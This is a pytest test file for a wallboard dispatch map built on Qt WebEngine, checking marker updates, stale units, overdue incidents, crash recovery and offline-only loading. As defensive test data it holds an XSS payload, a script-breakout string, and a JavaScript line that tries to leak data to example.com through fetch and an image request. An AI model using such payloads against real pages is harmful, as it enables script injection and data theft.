"""The live map with the real QWebEngineView (offscreen): markers, updates in place, staleness, XSS, offline-only."""

from __future__ import annotations

import json
import os
import signal
from collections.abc import Iterator
from typing import Any

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from wallboard.config import MapConfig
from wallboard.core.model import GeoPoint, Incident, PositionFix, Unit, UnitKind, UnitStatus
from wallboard.core.timeutil import ManualClock
from wallboard.resources import kaltim_reference
from wallboard.ui.map import MapView

from .conftest import NOW

pytestmark = pytest.mark.webengine
XSS = '<img src=x onerror="window.__xss=1">'


def unit(uid: str, rev: int, lat: float, lon: float, status: UnitStatus = UnitStatus.AVAILABLE, *,
         callsign: str = "BPN-R2-01", at: float = NOW, kind: UnitKind = UnitKind.R2) -> Unit:  # fmt: skip
    return Unit(uid, rev, callsign, "64.71", kind, status, PositionFix(lat, lon, 0.0, 30.0, at))


@pytest.fixture
def map_view(app: QApplication, qtbot: QtBot, clock: ManualClock) -> Iterator[MapView]:
    view = MapView(kaltim_reference(), "kaltim", MapConfig(), "Asia/Makassar", clock)
    qtbot.addWidget(view)
    view.resize(1000, 700)
    view.show()
    with qtbot.waitSignal(view.loaded, timeout=60_000):
        pass
    yield view


def state(qtbot: QtBot, view: MapView) -> dict[str, Any]:
    view.flush()
    box: list[dict[str, Any]] = []
    view.query_state(box.append)
    qtbot.waitUntil(lambda: bool(box), timeout=10_000)
    return box[0]


def js(qtbot: QtBot, view: MapView, script: str) -> Any:
    box: list[Any] = []
    view.page.runJavaScript(script, 0, lambda value: box.append(value))
    qtbot.waitUntil(lambda: bool(box), timeout=10_000)
    return box[0]


def test_markers_appear_move_and_restyle_in_place(qtbot: QtBot, map_view: MapView) -> None:
    loads = map_view.loads
    s = state(qtbot, map_view)
    assert s["hq"] == 10, "one marker per Kaltim Polres HQ"
    map_view.update_units([unit("u1", 1, -1.27, 116.83), unit("u2", 1, -1.25, 116.85, kind=UnitKind.R4)])
    s = state(qtbot, map_view)
    assert set(s["units"]) == {"u1", "u2"}
    assert s["units"]["u1"]["status"] == "available" and s["units"]["u1"]["shape"] == "circle"
    map_view.update_units([unit("u1", 2, -1.20, 116.90, UnitStatus.EN_ROUTE)])
    s = state(qtbot, map_view)
    assert (round(s["units"]["u1"]["lat"], 4), round(s["units"]["u1"]["lon"], 4)) == (-1.2, 116.9)
    assert s["units"]["u1"]["shape"] == "triangle"
    assert s["units"]["u1"]["colour"] == "#E69F00"
    assert map_view.loads == loads, "updates never reload the page"


def test_user_zoom_and_pan_survive_updates(qtbot: QtBot, map_view: MapView) -> None:
    js(qtbot, map_view, "wb.map.setView([-1.0, 117.0], 11, {animate: false}); 1")
    map_view.update_units([unit("u1", 1, -1.27, 116.83)])
    map_view.update_units([unit("u1", 2, -1.28, 116.84)])
    s = state(qtbot, map_view)
    assert s["zoom"] == 11
    assert round(s["center"]["lat"], 3) == -1.0 and round(s["center"]["lng"], 3) == 117.0


def test_stale_units_grey_out_with_last_seen(qtbot: QtBot, map_view: MapView, clock: ManualClock) -> None:
    map_view.update_units([unit("fresh", 1, -1.27, 116.83), unit("old", 1, -1.26, 116.84, at=NOW - 60)])
    s = state(qtbot, map_view)
    assert not s["units"]["old"]["stale"]
    clock.advance(180)  # no new data: the map greys the unit by itself as the clock moves
    s = state(qtbot, map_view)
    assert s["units"]["old"]["stale"] and s["units"]["fresh"]["stale"]
    assert s["units"]["old"]["colour"] == "#8A8F98"
    assert "last seen 4 min ago" in s["units"]["old"]["tooltip"]


def test_incidents_appear_become_overdue_and_clear(qtbot: QtBot, map_view: MapView, clock: ManualClock) -> None:
    incident = Incident("i1", 1, "64.71", "c1", NOW - 120, kind="Kecelakaan", location=GeoPoint(-1.25, 116.85))
    map_view.update_incidents([incident])
    s = state(qtbot, map_view)
    assert not s["incidents"]["i1"]["overdue"]
    clock.advance(600)
    s = state(qtbot, map_view)
    assert s["incidents"]["i1"]["overdue"] and "OVERDUE" in s["incidents"]["i1"]["tooltip"]
    map_view.update_incidents([Incident("i1", 2, "64.71", "c1", NOW - 120, closed_at=NOW + 590,
                                        location=GeoPoint(-1.25, 116.85))])  # fmt: skip
    assert state(qtbot, map_view)["incidents"] == {}


def test_hostile_callsign_is_shown_as_text_and_runs_nothing(qtbot: QtBot, map_view: MapView) -> None:
    map_view.update_units([unit("x", 1, -1.27, 116.83, callsign=XSS)])
    map_view.update_incidents([Incident("ix", 1, "64.71", None, NOW, kind="</script><script>window.__xss=2</script>",
                                        location=GeoPoint(-1.2, 116.8))])  # fmt: skip
    s = state(qtbot, map_view)
    assert s["units"]["x"]["tooltip"].split("\n")[0] == XSS
    js(qtbot, map_view, "wb.units['x'].marker.openTooltip(); wb.incidents['ix'].marker.openTooltip(); 1")
    qtbot.wait(300)
    html = js(qtbot, map_view, "wb.units['x'].marker.getTooltip().getElement().innerHTML")
    text = js(qtbot, map_view, "wb.units['x'].marker.getTooltip().getElement().textContent")
    assert "&lt;img" in html and "<img" not in html
    assert text.startswith(XSS), "the hostile callsign is shown as the text it is"
    assert js(qtbot, map_view, "document.querySelectorAll('img[src=x]').length") == 0
    assert js(qtbot, map_view, "String(window.__xss)") == "undefined"


def test_no_request_leaves_the_machine(qtbot: QtBot, map_view: MapView) -> None:
    interceptor = map_view.interceptor
    assert interceptor.allowed, "the page loaded its assets through the interceptor"
    assert all(u.startswith("wallboard:") for u in interceptor.allowed)
    assert not [u for u in interceptor.blocked if "map-" in u]
    # A script that tries to reach the internet: the page's CSP refuses it before it leaves.
    js(
        qtbot,
        map_view,
        "fetch('http://example.com/leak').catch(function(){}); new Image().src='http://example.com/x.png'; 1",
    )
    qtbot.wait(500)
    assert not [u for u in interceptor.allowed if not u.startswith("wallboard:")]
    # And without any CSP, the interceptor itself blocks it.
    map_view.page.setHtml('<img src="http://example.com/pixel.png">', QUrl("wallboard://app/probe.html"))
    qtbot.waitUntil(lambda: any("example.com/pixel.png" in u for u in interceptor.blocked), timeout=10_000)


def test_renderer_crash_rebuilds_the_map_and_restores_state(qtbot: QtBot, map_view: MapView) -> None:
    map_view.update_units([unit("u1", 1, -1.27, 116.83), unit("u2", 2, -1.3, 116.8, UnitStatus.ON_SCENE)])
    before = state(qtbot, map_view)["units"]
    pid = map_view.page.renderProcessPid()
    assert pid > 0
    with qtbot.waitSignal(map_view.loaded, timeout=60_000):
        os.kill(pid, signal.SIGKILL)
    after = state(qtbot, map_view)["units"]
    assert json.dumps(after, sort_keys=True) == json.dumps(before, sort_keys=True)
    assert map_view.loads == 2
